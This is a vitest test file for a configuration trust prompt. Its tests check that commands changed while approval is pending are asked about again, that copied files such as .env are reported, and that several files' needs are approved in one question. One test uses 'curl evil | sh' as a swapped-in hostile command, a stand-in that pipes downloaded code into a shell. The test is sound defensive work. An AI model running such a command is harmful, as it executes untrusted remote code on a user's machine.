import { mkdtempSync, realpathSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { expect, onTestFinished, test, vi } from "vitest";
import { allTrusted, loadTrusted, requireTrust } from "./trust.ts";

/** A folder of the test's own, and what is printed to a person meanwhile. */
function aFolder(): { readonly dir: string; readonly shown: readonly string[] } {
  const dir = mkdtempSync(join(realpathSync(tmpdir()), "trust-"));
  onTestFinished(() => rmSync(dir, { recursive: true }));
  const shown: string[] = [];
  const printed = vi.spyOn(process.stderr, "write").mockImplementation((text) => {
    shown.push(String(text));
    return true;
  });
  onTestFinished(() => printed.mockRestore());
  return { dir, shown };
}

test("a yes is for what was shown: what has changed while the question stood is asked for again", async () => {
  const { dir, shown } = aFolder();
  const script = join(dir, "check.sh");
  writeFileSync(script, "exit 0\n");
  let filter = "./check.sh";
  const load = (trust: boolean): string => {
    const options = { path: join(dir, "config.toml"), workTree: dir, stateDir: join(dir, "state") };
    requireTrust({ ...options, guarded: { filter }, trust });
    return filter;
  };
  const answers = [
    () => {
      filter = "curl evil | sh";
      return "y";
    },
    () => "n",
  ];
  const person = { canAsk: () => true, ask: async () => answers.shift()?.() ?? "" };
  await expect(loadTrusted(false, load, person)).rejects.toMatchObject({
    code: "ERR_UNTRUSTED_CONFIG",
  });
  expect(shown.join("")).toMatch(/check\.sh[^]*curl evil/u);
  expect(() => load(false)).toThrow("curl evil");
  filter = "./check.sh";
  expect(load(false)).toBe(filter);
  writeFileSync(script, "exit 1\n");
  answers.push(
    () => {
      writeFileSync(script, "evil\n");
      return "y";
    },
    () => "n",
  );
  await expect(loadTrusted(false, load, person)).rejects.toMatchObject({
    code: "ERR_UNTRUSTED_CONFIG",
  });
});

test("a file that is copied is not said to run", () => {
  const { dir } = aFolder();
  writeFileSync(join(dir, ".env"), "KEY=1\n");
  const guarded = { setup: ["npm ci"], copy: [".env", ".evn"] };
  const options = { path: "nebula shop", guarded, workTree: dir, stateDir: join(dir, "state") };
  const ask = () => requireTrust({ ...options, copies: ["copy"], trust: false });
  expect(ask).toThrow(/would run programs, copy files or spend money:[^]*\n {2}\.env is copied\n/u);
  expect(ask).toThrow(/\n {2}\.evn would be copied, and is not there now$/u);
});

test("what several files need is asked for at once, and a yes is for all of it", async () => {
  const { dir, shown } = aFolder();
  const need = (path: string, trust: boolean): string => {
    const guarded = { filter: `echo ${path}` };
    requireTrust({ path, guarded, workTree: dir, stateDir: join(dir, "state"), trust });
    return path;
  };
  const load = (trust: boolean): string =>
    allTrusted(
      () => need("config.toml", trust),
      () => void need("nebula.toml", trust),
    );
  const ask = vi.fn<() => Promise<string>>(async () => "y");
  expect(await loadTrusted(false, load, { canAsk: () => true, ask })).toBe("config.toml");
  expect(ask).toHaveBeenCalledTimes(1);
  expect(shown.join("")).toMatch(/config\.toml would run[^]*nebula\.toml would run/u);
  const wrong = (): void => {
    throw new Error("it is another mistake");
  };
  expect(() => allTrusted(() => need("other.toml", false), wrong)).toThrow("another mistake");
});
